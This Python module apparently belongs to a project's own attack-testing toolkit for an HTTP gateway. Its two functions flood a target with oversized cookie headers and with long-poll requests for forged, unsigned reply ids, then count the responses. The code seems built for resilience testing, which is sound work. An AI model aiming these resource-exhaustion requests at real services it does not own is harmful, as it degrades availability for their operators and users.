"""Valid requests that cost more than they look."""

import secrets
import time

from tools.attack.attacks.wire import PATIENCE_S, Target, hold, pace

COOKIES = b"".join(b"Cookie: c%d=%s\r\n" % (n, b"a" * 7_400) for n in range(8))


async def big_heads(target: Target, number: int) -> None:
    """Send heads with 60 kB of cookies."""
    request = b"GET /livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + COOKIES + b"\r\n"

    async def one(_: int) -> None:
        with await target.connect() as connection:
            await connection.send(request)
            received = await connection.receive_all()
            target.counts[received[9:12].decode("latin-1") or "no response"] += 1

    await pace(target, number, one)


async def forged_replies(target: Target, number: int) -> None:
    """Ask for the replies of forged ids and offer to wait for them."""

    async def one(_: int) -> None:
        with await target.connect() as connection:
            await connection.send(forged_request())
            received = await connection.receive(PATIENCE_S)
            target.counts[received[9:12].decode("latin-1") or "no response"] += 1

    await hold(target, number, one)


def forged_request() -> bytes:
    """Return a long poll for an id that has the form of the gateway's and no valid signature."""
    deadline_ms = int(time.time() * 1000) + 20_000
    random, signature = secrets.token_urlsafe(16), secrets.token_urlsafe(32)
    path = f"/replies/0a1b2c3d.{deadline_ms}.{random}.{signature}"
    return f"GET {path} HTTP/1.1\r\nHost: x\r\nPrefer: wait=25\r\n\r\n".encode()
